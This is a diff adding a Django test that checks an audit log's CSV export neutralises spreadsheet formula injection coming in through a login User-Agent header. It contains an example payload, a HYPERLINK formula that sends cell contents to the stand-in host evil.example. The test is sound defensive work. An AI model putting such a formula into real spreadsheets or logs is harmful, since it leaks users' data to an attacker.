@@ -98,3 +98,25 @@ def test_the_periodic_task_chains_and_appends_the_head_to_the_head_file(logged, 
     assert first["position"] == second["position"] - 1
     assert {"at", "sequence", "hash", "position"} == second.keys()
     assert not AuditEvent.objects.filter(hash="").exists()
+
+
+FORMULA_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+
+
+def test_a_formula_in_a_user_agent_reaches_the_csv_export_as_text(db, analyst):
+    from django.test import Client
+
+    analyst.save()  # the factory's password "pw" is set but not saved
+    browser = Client(HTTP_USER_AGENT=FORMULA_AGENT)
+    assert browser.post("/login/", {"username": "ann", "password": "pw"}).status_code == 302
+    event = AuditEvent.objects.get(action=Action.LOGIN_SUCCEEDED)
+    assert event.user_agent == FORMULA_AGENT  # the log keeps what was sent; only the export neutralises it
+
+    text = export("--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    (row,) = [r for r in rows if r["sequence"] == str(event.sequence)]
+    assert row["user_agent"] == "'" + FORMULA_AGENT
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+    # The JSON lines export keeps the exact hashed value, and the CSV's is one quote away from it.
+    (line,) = [json.loads(x) for x in export().splitlines() if json.loads(x)["sequence"] == event.sequence]
+    assert line["user_agent"] == FORMULA_AGENT == row["user_agent"][1:]
